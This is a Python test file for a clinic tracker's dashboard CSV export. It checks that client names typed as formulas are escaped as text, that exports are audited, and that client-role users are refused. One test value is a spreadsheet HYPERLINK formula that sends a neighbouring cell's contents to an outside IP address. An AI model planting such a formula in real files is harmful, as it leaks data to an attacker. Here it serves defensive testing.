"""The dashboard's CSV file (issue 12 item 4): a client name typed as a formula opens as
text; only staff get the file, and it is audited."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from sqlalchemy import select

from tracker.app import courses
from tracker.app.context import Context
from tracker.app.table_export import dashboard_csv
from tracker.bootstrap import App
from tracker.domain import Role
from tracker.permissions import Actor, PermissionDenied
from tracker.store.models import AuditEvent

HOSTILE = '=HYPERLINK("http://203.0.113.9/?"&A2,"Ava")'


def test_the_dashboard_csv_makes_formulas_text(app: App, operator: Actor) -> None:
    ctx = Context(app, operator)
    courses.create_client(ctx, HOSTILE, body_area="cheeks")
    courses.create_client(ctx, "@Ava -Lee")
    name, data = dashboard_csv(ctx, date(2026, 3, 1))
    assert name == "clients-2026-03-01.csv"
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert sorted(r["Client"] for r in rows) == sorted(["'" + HOSTILE, "'@Ava -Lee"])
    cells = [cell for row in rows for cell in row.values()]
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    assert all(not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit() for cell in cells)
    with app.uow() as uow:
        actions = uow.session.scalars(select(AuditEvent.action)).all()
    assert actions.count("export_dashboard") == 1


def test_a_client_gets_no_dashboard_csv(app: App, operator: Actor, client_id: int) -> None:
    client = Actor("ann@home.test", Role.CLIENT, operator.clinic_id, user_id=None, client_id=client_id)
    with pytest.raises(PermissionDenied):
        dashboard_csv(Context(app, client), date(2026, 3, 1))
